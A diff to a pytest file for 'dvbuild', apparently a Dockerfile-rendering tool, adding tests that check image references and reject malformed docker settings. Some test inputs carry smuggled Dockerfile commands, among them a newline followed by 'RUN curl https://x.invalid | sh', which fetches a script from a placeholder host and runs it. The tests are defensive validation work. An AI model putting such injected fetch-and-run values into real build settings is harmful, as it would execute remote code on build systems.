@@ -11,6 +11,7 @@ from pathlib import Path
 
 import pytest
 
+from dvbuild.errors import ConfigError
 from dvbuild.image import build as image
 from dvbuild.image import context as buildcontext
 from dvbuild.image import dockerfile as image_dockerfile
@@ -61,9 +62,12 @@ def test_no_apt_step_without_apt_txt_and_no_ca_without_bundle() -> None:
 
 
 def test_labels_and_build_ids_come_last_and_quoted() -> None:
-    text = render(labels={"org.opencontainers.image.description": 'say "hi" for $5\nnow'})
+    text = render(labels={"org.opencontainers.image.description": 'say "hi" for $5\nnow'},
+                  image_ref="r.io/team/hello:" + "f" * 64)
     tail = text[text.index("ENV DVBUILD_COMMIT"):]
     assert 'DVBUILD_COMMIT="' + "c" * 40 + '"' in tail
+    assert 'DVBUILD_IMAGE_REF="r.io/team/hello:' + "f" * 64 + '"' in tail  # what dvbuild run records
+    assert "DVBUILD_IMAGE_REF" not in render()
     assert r'org.opencontainers.image.description="say \"hi\" for \$5 now"' in tail
     assert "COPY" not in tail and "RUN" not in tail
 
@@ -205,6 +209,54 @@ def test_base_image_and_extras_per_package(repo: Repo) -> None:
     other = load_package(repo.path / "packages/other", repo.path)
     assert image_dockerfile.base_image(settings, other) == "debian:12"
     assert image_dockerfile.extras(other) == ["s3", "elastic"]
+
+
+@pytest.mark.parametrize(("ref", "ok"), [
+    ("python:3.11-slim", True), ("debian:12", True), ("localhost:5000/team/base:1", True),
+    ("ghcr.io/org/base:1.0@sha256:" + "a" * 64, True), ("[::1]:5000/base", True),
+    ("python:3.11-slim\nRUN curl https://x.invalid | sh", False), ("python:3.11 AS x", False),
+    ("Python:3", False), ("", False), (5, False), (None, False), ("--platform=x python", False),
+    ("python:${TAG}", False), ("a" * 600, False),
+])
+def test_image_references(ref: object, ok: bool) -> None:
+    assert (image_naming.reference_problem(ref) is None) is ok
+
+
+@pytest.mark.parametrize(("docker", "pointer"), [
+    ({"base_image": "python:3.11-slim\nRUN id"}, "/docker/base_image"),
+    ({"base_image": ""}, "/docker/base_image"),
+    ({"extras": ["s3", "evil"]}, "/docker/extras/1"),
+    ({"extras": "s3"}, "/docker/extras"),
+    ([], "/docker"),
+])
+def test_docker_settings_are_refused_before_the_dockerfile(repo: Repo, docker: object,
+                                                          pointer: str) -> None:
+    settings = settings_of(repo)
+    repo.write_package("packages/hello", "hello", docker=docker)
+    package = load_package(repo.path / "packages/hello", repo.path)
+    with pytest.raises(ConfigError) as e:
+        image_dockerfile.base_image(settings, package)
+    assert [p.pointer for p in e.value.problems] == [pointer]
+
+
+def test_base_image_of_dvbuild_yaml_is_checked(repo: Repo) -> None:
+    repo.write("dvbuild.yaml", 'base_image: "python:3.11\\nRUN id"\n')
+    with pytest.raises(ConfigError) as e:
+        load_settings(repo.path, environ={})
+    assert [(p.file, p.pointer) for p in e.value.problems] == [("dvbuild.yaml", "/base_image")]
+    repo.write("dvbuild.yaml", "")
+    settings = load_settings(repo.path, environ={"DVBUILD_BASE_IMAGE": "a b"})
+    package = load_package(repo.path / "packages/other", repo.path)
+    with pytest.raises(ConfigError, match="base_image 'a b' is not an image reference"):
+        image_dockerfile.base_image(settings, package)
+
+
+def test_extras_are_dvbuilds_own() -> None:
+    import tomllib
+
+    pyproject = tomllib.loads((Path(__file__).parents[1] / "pyproject.toml").read_text())
+    extras = set(pyproject["project"]["optional-dependencies"]) - {"test", "dev"}
+    assert set(image_dockerfile.EXTRAS) == extras
 
 
 def test_dirty_work_tree_tags_the_working_tree_content(repo: Repo) -> None:
